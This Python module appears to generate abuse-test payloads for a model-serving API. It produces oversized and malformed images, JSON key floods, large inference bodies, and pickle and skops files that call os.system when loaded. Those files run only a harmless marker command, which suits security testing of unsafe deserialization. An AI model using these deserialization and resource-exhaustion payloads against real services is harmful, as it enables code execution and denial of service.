"""The attack payloads: huge and malformed images, oversized bodies, and files that run a command when
loaded unsafely. The large images are generated once and cached (``Options.payload_dir``)."""

from __future__ import annotations

import io
import json
import os
import pickle
import shlex
import string
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from .options import Options


def payload_dir(opts: Options) -> Path:
    """Where the generated images are cached between runs."""
    path = opts.payload_dir or Path(tempfile.gettempdir()) / "abuse-payloads"
    path.mkdir(parents=True, exist_ok=True)
    return path


def _garment(draw, width: int, height: int, fill) -> None:
    """A T-shirt-like polygon, so the image is a plausible (if huge) product picture."""
    w, h = width / 100, height / 100
    points = [
        (30, 15),
        (42, 12),
        (50, 18),
        (58, 12),
        (70, 15),
        (88, 32),
        (78, 42),
        (70, 36),
        (70, 88),
        (30, 88),
        (30, 36),
        (22, 42),
        (12, 32),
    ]
    draw.polygon([(x * w, y * h) for x, y in points], fill=fill)


def _atomic_save(path: Path, save: Callable[[Path], None]) -> Path:
    """``save`` to ``path`` unless it is already there, through a temporary name (a cut-off run leaves no
    half-written image to reuse)."""
    if not path.is_file() or path.stat().st_size == 0:
        tmp = path.with_name(path.name + f".{os.getpid()}.tmp")
        save(tmp)
        os.replace(tmp, path)
    return path


def big_png(directory: Path, side: int = 6300) -> Path:
    """A side x side RGBA PNG (39.7 M pixels at 6300, under the 40 M cap), mostly flat: about 170 KB."""

    def save(path: Path) -> None:
        from PIL import Image, ImageDraw

        image = Image.new("RGBA", (side, side), (245, 245, 245, 255))
        draw = ImageDraw.Draw(image)
        _garment(draw, side, side, (40, 45, 70, 255))
        draw.rectangle((0, 0, side // 8, side // 8), fill=(0, 0, 0, 0))  # a transparent corner: alpha matters
        image.save(path, format="PNG", compress_level=9)

    return _atomic_save(directory / f"big_rgba_{side}.png", save)


def big_jpeg(directory: Path, size: tuple[int, int] = (8000, 6000)) -> Path:
    """An 8000x6000 (48 M pixels) photo-like JPEG: smooth colour fields, a garment, a little noise (~1 MB)."""

    def save(path: Path) -> None:
        import numpy as np
        from PIL import Image, ImageDraw

        rng = np.random.default_rng(14)
        small = Image.fromarray(rng.integers(90, 230, (6, 8, 3), dtype=np.uint8))
        image = small.resize(size, Image.BICUBIC)
        _garment(ImageDraw.Draw(image), *size, (60, 50, 45))
        noise = Image.effect_noise(size, 6).convert("RGB")
        image = Image.blend(image, noise, 0.08)
        image.save(path, format="JPEG", quality=80)

    return _atomic_save(directory / f"photo_{size[0]}x{size[1]}.jpg", save)


def icc_png(directory: Path, kind: str, size: int = 7_000_000) -> Path:
    """A valid 256x256 PNG whose ICC profile is ``size`` random bytes ("random": as large on the wire) or
    zeros ("zeros": a few KB compressed, 7 MB once inflated)."""

    def save(path: Path) -> None:
        from PIL import Image, ImageDraw

        image = Image.new("RGB", (256, 256), (250, 250, 250))
        _garment(ImageDraw.Draw(image), 256, 256, (30, 30, 30))
        profile = os.urandom(size) if kind == "random" else bytes(size)
        image.save(path, format="PNG", icc_profile=profile)

    return _atomic_save(directory / f"icc_{kind}_{size}.png", save)


def key_flood_body(keys: int) -> bytes:
    """A JSON object with ``keys`` unique short keys (base 62, up to 4 characters): 7.2 MB at 800k."""
    alphabet = string.ascii_letters + string.digits
    parts, n = [], 0
    length = 1
    while n < keys:
        for i in range(len(alphabet) ** length):
            if n >= keys:
                break
            name, rest = "", i
            for _ in range(length):
                rest, digit = divmod(rest, len(alphabet))
                name += alphabet[digit]
            parts.append(f'"{name}":0')
            n += 1
        length += 1
    return ("{" + ",".join(parts) + "}").encode()


class _Command:
    """Pickled as ``os.system(command)``: unpickling it runs the command (the classic __reduce__ payload)."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def pickle_payload(marker: Path) -> bytes:
    return pickle.dumps(_Command(f"touch {shlex.quote(str(marker))}"), protocol=2)


def skops_payload(marker: Path, like: bytes | None = None) -> bytes:
    """A skops file whose root is ``os.system("touch <marker>")``: skops's ConstructorFromReduceNode calls the
    named type with the stored arguments, so loading it with that type trusted runs the command."""
    protocol, version = 2, "0.16.0"
    if like:
        try:
            with zipfile.ZipFile(io.BytesIO(like)) as original:
                schema = json.loads(original.read("schema.json"))
            protocol, version = schema.get("protocol", protocol), schema.get("_skops_version", version)
        except (zipfile.BadZipFile, KeyError, ValueError):
            pass
    command = f"touch {shlex.quote(str(marker))}"
    schema = {
        "__class__": "system",
        "__module__": os.system.__module__,
        "__loader__": "ConstructorFromReduceNode",
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [
                {
                    "__class__": "str",
                    "__module__": "builtins",
                    "__loader__": "JsonNode",
                    "content": json.dumps(command),
                    "is_json": True,
                }
            ],
        },
        "protocol": protocol,
        "_skops_version": version,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema, indent=2))
    return buffer.getvalue()


def small_png(broken_exif: bool = False) -> bytes:
    """A 28x28 greyscale garment PNG; with ``broken_exif`` a 8x8 one with an eXIf chunk that is no TIFF
    (``Image.open(...).getexif()`` raises on it)."""
    from PIL import Image, ImageDraw

    buffer = io.BytesIO()
    if broken_exif:
        Image.new("L", (8, 8), 128).save(buffer, format="PNG", exif=b"Exif\x00\x00NOTATIFF")
    else:
        image = Image.new("L", (28, 28), 0)
        _garment(ImageDraw.Draw(image), 28, 28, 200)
        image.save(buffer, format="PNG")
    return buffer.getvalue()


def v2_bodies(opts: Options) -> dict[str, tuple[str, bytes, bytes]]:
    """name: (path, extra headers, body): binary BYTES tensors of many tiny elements (Triton's layout: a 4-byte
    little-endian length, then the bytes) and JSON arrays of numbers, flat and nested."""
    bodies = {}
    for name, model, tensor, element in (
        ("bytes_1_byte_elements", "house-price", "MSZoning", b"\x01\x00\x00\x00a"),
        ("bytes_empty_elements", "fashion", "pixels", b"\x00" * 4),
    ):
        count = opts.v2_bytes // len(element)
        binary = element * count
        header = json.dumps(
            {
                "inputs": [
                    {
                        "name": tensor,
                        "datatype": "BYTES",
                        "shape": [count],
                        "parameters": {"binary_data_size": len(binary)},
                    }
                ]
            }
        ).encode()
        bodies[name] = (
            f"/v2/models/{model}/infer",
            f"Inference-Header-Content-Length: {len(header)}\r\n".encode(),
            header + binary,
        )
    rows = max(1, opts.v2_numbers // 784)
    flat = ",".join(["12.5"] * (rows * 784))
    row = "[" + ",".join(["12.5"] * 28) + "]"
    picture = "[" + ",".join([row] * 28) + "]"
    for name, data in (
        ("json_numbers_flat", f"[{flat}]"),
        ("json_numbers_nested", "[" + ",".join([picture] * rows) + "]"),
    ):
        body = f'{{"inputs": [{{"name": "pixels", "datatype": "FP32", "shape": [{rows}, 28, 28], "data": {data}}}]}}'
        bodies[name] = ("/v2/models/fashion/infer", b"", body.encode())
    return bodies
